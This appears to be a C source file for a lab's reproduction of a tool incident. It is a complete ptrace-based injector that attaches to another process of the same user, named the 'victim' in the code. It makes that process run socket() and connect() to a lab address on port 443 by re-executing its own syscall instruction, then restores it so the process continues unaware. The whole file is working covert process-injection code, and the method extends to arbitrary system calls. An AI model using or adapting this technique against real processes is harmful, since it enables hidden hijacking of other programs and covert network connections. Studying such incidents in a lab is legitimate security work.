// SPDX-License-Identifier: MIT
// The injector of the recorded tool incident: makes a process of the same user open one connection, to the
// laboratory's [fd00:a::5]:443, and lets it go on as if nothing had happened. It does nothing else.
//
// inject PID: the process must be waiting in a system call, as `tail -F` does nearly all the time.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

#define RED_ZONE_BYTES 256 /* x86-64 ABI: 128 below the stack pointer are in use; twice that is free */

// Runs one system call inside the stopped process: the instruction that it waits in is used once more.
static long long call(pid_t victim, const struct user_regs_struct *saved, unsigned long long number,
		      unsigned long long first, unsigned long long second, unsigned long long third)
{
	struct user_regs_struct regs = *saved;

	regs.rip -= 2; /* `syscall` is two bytes long */
	regs.orig_rax = (unsigned long long)-1;
	regs.rax = number;
	regs.rdi = first;
	regs.rsi = second;
	regs.rdx = third;
	ptrace(PTRACE_SETREGS, victim, NULL, &regs);
	ptrace(PTRACE_SINGLESTEP, victim, NULL, NULL);
	waitpid(victim, NULL, 0);
	ptrace(PTRACE_GETREGS, victim, NULL, &regs);
	return (long long)regs.rax;
}

static void copy_in(pid_t victim, unsigned long long where, const void *bytes, size_t length)
{
	for (size_t done = 0; done < length; done += sizeof(long)) {
		long word = 0;
		size_t rest = length - done;

		memcpy(&word, (const char *)bytes + done, rest < sizeof(word) ? rest : sizeof(word));
		ptrace(PTRACE_POKEDATA, victim, (void *)(where + done), (void *)word);
	}
}

int main(int argc, char **argv)
{
	pid_t victim = argc > 1 ? (pid_t)atoi(argv[1]) : 0;
	struct sockaddr_in6 home = { .sin6_family = AF_INET6, .sin6_port = htons(443) };
	struct user_regs_struct saved;
	unsigned long long where;
	long long peer;

	inet_pton(AF_INET6, "fd00:a::5", &home.sin6_addr);
	if (victim < 2 || ptrace(PTRACE_ATTACH, victim, NULL, NULL) < 0)
		return 1;
	waitpid(victim, NULL, 0);
	ptrace(PTRACE_GETREGS, victim, NULL, &saved);
	where = (saved.rsp - RED_ZONE_BYTES) & ~0xfull;
	copy_in(victim, where, &home, sizeof(home));
	peer = call(victim, &saved, SYS_socket, AF_INET6, SOCK_STREAM, 0);
	if (peer >= 0)
		peer = call(victim, &saved, SYS_connect, (unsigned long long)peer, where, sizeof(home));
	// Back into the call that was interrupted, from its beginning.
	saved.rip -= 2;
	saved.rax = saved.orig_rax;
	saved.orig_rax = (unsigned long long)-1;
	ptrace(PTRACE_SETREGS, victim, NULL, &saved);
	ptrace(PTRACE_DETACH, victim, NULL, NULL);
	return peer < 0;
}
